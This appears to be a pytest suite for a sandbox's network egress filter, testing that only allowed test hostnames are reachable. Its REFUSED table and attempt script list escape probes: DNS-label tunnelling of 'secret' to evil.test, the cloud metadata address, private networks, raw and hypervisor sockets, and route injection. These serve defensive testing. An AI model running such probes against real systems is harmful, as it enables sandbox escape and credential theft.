"""What a real sandbox reaches: names that stand for captured addresses, and nothing else.

The gate of these tests only says whom it was reached as; what gates let through has its own tests.
"""

import json
import os
import shutil
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import anyio
import pytest

from intramuros.execution.egress import netns
from intramuros.execution.egress.attach import Captures
from intramuros.execution.egress.base import Passage
from intramuros.execution.egress.leg import Leg
from intramuros.execution.record import Record
from intramuros.execution.sandbox.base import Level, SandboxGone, SandboxSpec
from intramuros.execution.sandbox.bubblewrap import BubblewrapProvider
from intramuros.execution.sandbox.live import LiveSandbox
from intramuros.execution.sandbox.rootfs import TRUST, TRUSTING
from intramuros.kernel.timing import SystemClock

pytestmark = pytest.mark.anyio

# Two runs on one machine have nothing to do with each other.
SESSION = f"sesn_{os.getpid()}"
CA = "-----BEGIN CERTIFICATE-----\nTm8gY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n"


class Names:
    def admits(self, name: str) -> bool:
        return name in ("api.test", "git.test") or name.endswith(".wild.test")

    def ports(self) -> frozenset[int]:
        return frozenset({80, 443, 8443})


@dataclass
class Teller:
    """Says whom it was reached as, once it heard something, and hangs up."""

    served: list[tuple[str, int]] = field(default_factory=list)

    async def serve(self, client: Leg, name: str, port: int) -> None:
        self.served.append((name, port))
        async with client:
            heard = await client.receive()
            body = f"{name}:{port}:{len(heard) > 0}\n".encode()
            head = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % len(body)
            await client.send(head + body)


@pytest.fixture(scope="module")
def catching_host(working_host: None) -> None:
    found = netns.probe()
    if found.level is not Level.OK:
        pytest.skip(f"no egress on this host: {found.what}: {found.fix}")


@pytest.fixture
async def captures(catching_host: None, tmp_path: Path) -> AsyncIterator[Captures]:
    record = Record(tmp_path / "audit.jsonl", SystemClock())
    made = Captures(record, SystemClock(), 4)
    async with made.opened():
        yield made
    record.close()


@pytest.fixture
def gate() -> Teller:
    return Teller()


@dataclass
class Caught:
    """A sandbox with egress, and a shell in it."""

    sandbox: LiveSandbox
    captures: Captures
    gate: Teller

    async def run(self, script: str, timeout_s: float = 10.0) -> tuple[int, str]:
        done = await self.sandbox.exec(["bash", "-c", script], timeout_s=timeout_s)
        return done.exit_code, (done.stdout + done.stderr).decode()

    async def python(self, source: str) -> str:
        done = await self.sandbox.exec(["/usr/bin/python3", "-c", source], timeout_s=60.0)
        return (done.stdout + done.stderr).decode().strip()


@pytest.fixture
async def caught(
    provider: BubblewrapProvider, captures: Captures, gate: Teller, tmp_path: Path
) -> Caught:
    trust = tmp_path / "trust.pem"
    trust.write_text(CA)
    trust.chmod(0o644)
    spec = SandboxSpec(egress="names", trust=trust, environment={"TOKEN": "placeholder"})
    sandbox = await provider.create(spec, SESSION)
    await captures.attach(sandbox, Passage(Names(), gate))
    return Caught(sandbox, captures, gate)


def needs(program: str) -> None:
    if shutil.which(program, path="/usr/bin:/bin") is None:
        pytest.skip(f"this host has no {program} to try it with")


async def test_programs_reach_an_allowed_name_and_know_of_no_proxy(caught: Caught) -> None:
    needs("curl")
    assert await caught.run("curl -sS http://api.test/") == (0, "api.test:80:True\n")
    fetch = "import urllib.request as u; print(u.urlopen('http://a.wild.test/').read().decode())"
    assert await caught.python(fetch) == "a.wild.test:80:True"
    raw = "exec 3<>/dev/tcp/git.test/8443; echo hi >&3; tail -n 1 <&3"
    assert await caught.run(raw) == (0, "git.test:8443:True\n")
    assert caught.gate.served == [("api.test", 80), ("a.wild.test", 80), ("git.test", 8443)]
    status, told = await caught.run("env | grep -ic proxy")
    assert (status, told) == (1, "0\n")


async def test_git_reaches_an_allowed_name(caught: Caught) -> None:
    needs("git")
    status, _ = await caught.run("git ls-remote http://git.test/some/repository")
    assert status != 0  # the teller is no git server
    assert ("git.test", 80) in caught.gate.served


async def test_programs_in_the_background_and_in_the_shell_are_caught_as_well(
    caught: Caught,
) -> None:
    needs("curl")
    command = "setsid nohup curl -sS http://api.test/ > answer; cat answer"
    outcome = await caught.sandbox.call("bash", {"command": command})
    assert "api.test:80:True" in str(outcome.content)


# What must be refused: what Python prints, of an expression that ends in nothing but an error.
REFUSED = {
    "a name that is not allowed": "look('evil.test')",
    "the parent of an allowed pattern": "look('wild.test')",
    "a tunnel in labels": "look('c2VjcmV0.c2VjcmV0.evil.test')",
    "a name server of the world's": "datagram('1.1.1.1', 53)",
    "a name server of this host's": "datagram('127.0.0.53', 53)",
    "QUIC to an allowed name": "datagram(socket.gethostbyname('api.test'), 443)",
    "another port of an allowed name": "connect('api.test', 8080)",
    "DNS over TLS": "connect('api.test', 853)",
    "an address that stands for nothing": "connect('198.18.200.9', 80)",
    "the address of the name server": "connect('198.18.0.1', 443)",
    "a public address": "connect('1.1.1.1', 443)",
    "the metadata service": "connect('169.254.169.254', 80)",
    "a private network": "connect('10.0.0.1', 80)",
    "a service on the host's loopback": "connect('127.0.0.1', 0)",
    "a public address of IPv6": "connect('2606:4700:4700::1111', 443)",
    "IPv6's loopback": "connect('::1', 443)",
    "an address in disguise": "connect('::ffff:1.1.1.1', 443)",
    "a raw socket": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "a ping socket": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
    "a packet socket": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "a socket to the hypervisor": "socket.socket(40, socket.SOCK_STREAM)",
    "a route of its own": "route()",
    "the name server's port": "bind('198.18.0.1', 53)",
    "a captured port": "bind('0.0.0.0', 443)",
    "a captured port of one address": "bind(socket.gethostbyname('api.test'), 443)",
}
ATTEMPT = """
import os, socket, struct, sys
def look(name):
    socket.getaddrinfo(name, 80)
def connect(host, port):
    with socket.create_connection((host, port), 5) as made:
        made.sendall(b"x")
        made.settimeout(5)
        if not made.recv(10): raise ConnectionResetError("closed")
def datagram(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(5)
        made.connect((host, port))
        made.send(b"\\0" * 20)
        made.recv(10)
def bind(host, port):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as made:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            made.bind((host, port))
def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.bind((0, 0))
        body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHi", 8, 4, 1)
        link.send(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
        code = struct.unpack_from("=i", link.recv(4096), 16)[0]
        if code: raise OSError(-code, os.strerror(-code))
def attempt(name, code):
    try:
        exec(code)
    except TimeoutError as error:
        return "hung"
    except OSError as error:
        return f"refused {type(error).__name__}"
    return "PASSED"
import json
print(json.dumps({name: attempt(name, code) for name, code in json.loads(sys.argv[1]).items()}))
"""


async def test_everything_else_is_refused_at_once(caught: Caught) -> None:
    with socket.create_server(("127.0.0.1", 0)) as service:
        port = service.getsockname()[1]
        attempts = {name: code.replace(", 0)", f", {port})") for name, code in REFUSED.items()}
        attempts["what is allowed"] = "connect('api.test', 80)"
        began = anyio.current_time()
        argv = ["/usr/bin/python3", "-c", ATTEMPT, json.dumps(attempts)]
        done = await caught.sandbox.exec(argv, timeout_s=60.0)
        took_s = anyio.current_time() - began
        assert done.exit_code == 0, done.stderr.decode()
        outcomes = json.loads(done.stdout)
        assert outcomes.pop("what is allowed") == "PASSED"
        assert {k: v for k, v in outcomes.items() if not v.startswith("refused ")} == {}
        assert len(outcomes) == len(REFUSED)
        assert took_s < 5
        service.settimeout(0)
        with pytest.raises(BlockingIOError):
            service.accept()
    assert caught.gate.served == [("api.test", 80)]


async def test_refused_names_are_in_the_record(caught: Caught, tmp_path: Path) -> None:
    await caught.python("import socket\ntry: socket.gethostbyname('evil.test')\nexcept OSError: 0")
    caught.captures._record.settle()
    written = (tmp_path / "audit.jsonl").read_text()
    assert '"name":"evil.test"' in written
    assert f'"session_id":"{SESSION}"' in written


async def test_what_is_trusted_is_ours_wherever_programs_look(caught: Caught) -> None:
    status, told = await caught.run(f"cat {TRUST}; cat $SSL_CERT_FILE")
    assert (status, told) == (0, CA + CA)
    if await anyio.Path("/etc/ssl/certs/ca-certificates.crt").is_file():
        assert await caught.run("cat /etc/ssl/certs/ca-certificates.crt") == (0, CA)
    _, told = await caught.run("env")
    variables = dict(line.split("=", 1) for line in told.splitlines() if "=" in line)
    assert {variables[name] for name in TRUSTING} == {TRUST}
    assert variables["TOKEN"] == "placeholder"
    for path in (TRUST, "/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf"):
        status, _ = await caught.run(f"echo x >> {path}")
        assert status != 0, path


async def test_nothing_of_the_helper_stays_inside(caught: Caught) -> None:
    look = "tr '\\0' ' ' < /proc/self/cmdline; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"
    status, running = await caught.run(look)
    assert status == 0
    assert "supervisor" in running
    assert "joiner" not in running
    await caught.captures.detach(SESSION)
    _, listening = await caught.run(
        "tail -qn +2 /proc/net/tcp /proc/net/tcp6 /proc/net/udp | wc -l"
    )
    assert listening.strip() == "0"
    status, said = await caught.run("ls -l /proc/self/fd | grep -c socket")
    assert said.strip() == "0", status


async def test_without_a_capture_there_is_no_network_at_all(caught: Caught) -> None:
    answer = "import socket\ntry: print(socket.create_connection(('198.18.1.0', 80), 5))\n"
    answer += "except OSError as error: print(type(error).__name__)\n"
    answer += "try: print(socket.gethostbyname('api.test'))\n"
    answer += "except OSError as error: print(type(error).__name__)\n"
    await caught.python("import socket; print(socket.gethostbyname('api.test'))")
    await caught.captures.detach(SESSION)
    assert await caught.python(answer) == "ConnectionRefusedError\ngaierror"
    await caught.captures.attach(caught.sandbox, Passage(Names(), caught.gate))
    lookup = "import socket; print(socket.gethostbyname('api.test'))"
    assert (await caught.python(lookup)).startswith("198.18.")


async def test_a_paused_sandbox_goes_on_where_it_was(caught: Caught) -> None:
    await caught.sandbox.pause()
    await anyio.sleep(0.05)
    await caught.sandbox.resume()
    lookup = "import socket; print(socket.gethostbyname('api.test'))"
    assert (await caught.python(lookup)).startswith("198.18.")


async def test_a_flood_of_lookups_and_connections_is_the_sandboxs_own_trouble(
    caught: Caught,
) -> None:
    flood = (
        "import socket, time\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.18.0.1', 53))\n"
        "end = time.time() + 1.0\n"
        "s.setblocking(False)\n"
        "n = 0\n"
        "while time.time() < end:\n"
        "    try: s.send(b'\\0' * 40); n += 1\n"
        "    except OSError: pass\n"
        "    try: socket.create_connection(('198.18.9.9', 80), 1).close()\n"
        "    except OSError: pass\n"
        "print(n)\n"
    )
    late: list[float] = []

    async def watch() -> None:
        while True:
            began = anyio.current_time()
            await anyio.sleep(0.01)
            late.append(anyio.current_time() - began - 0.01)

    async with anyio.create_task_group() as group:
        group.start_soon(watch)
        assert int(await caught.python(flood)) > 0
        group.cancel_scope.cancel()
    # The worker's other sessions went on meanwhile.
    late.sort()
    assert late[len(late) * 9 // 10] < 0.1


async def test_two_sandboxes_share_neither_names_nor_networks(
    provider: BubblewrapProvider, captures: Captures, caught: Caught
) -> None:
    other = await provider.create(SandboxSpec(egress="names"), f"{SESSION}_other")

    class Nothing(Names):
        def admits(self, name: str) -> bool:
            return False

    await captures.attach(other, Passage(Nothing(), caught.gate))
    address = await caught.python("import socket; print(socket.gethostbyname('api.test'))")
    attempt = (
        "import socket\n"
        f"try: socket.create_connection(('{address}', 80), 5).recv(1); print('PASSED')\n"
        "except OSError as error: print(type(error).__name__)\n"
    )
    done = await other.exec(["/usr/bin/python3", "-c", attempt])
    assert done.stdout == b"ConnectionResetError\n"
    assert caught.gate.served == []


async def test_a_sandbox_without_egress_is_as_closed_as_ever(
    provider: BubblewrapProvider, sandbox: LiveSandbox
) -> None:
    look = (
        "import socket\n"
        "for host in ('198.18.0.1', '198.18.1.0', '1.1.1.1'):\n"
        "    try: socket.create_connection((host, 53), 5); print('PASSED')\n"
        "    except OSError as error: print(error.errno)\n"
        "print(len(open('/etc/resolv.conf').read()), 'dns' in open('/etc/nsswitch.conf').read())\n"
    )
    done = await sandbox.exec(["/usr/bin/python3", "-c", look])
    assert done.stdout == b"101\n101\n101\n0 False\n"


async def test_a_network_is_not_found_once_the_sandbox_is_gone(caught: Caught) -> None:
    await caught.captures.detach(SESSION)
    await caught.sandbox.destroy()
    with pytest.raises(SandboxGone):
        await caught.captures.attach(caught.sandbox, Passage(Names(), caught.gate))
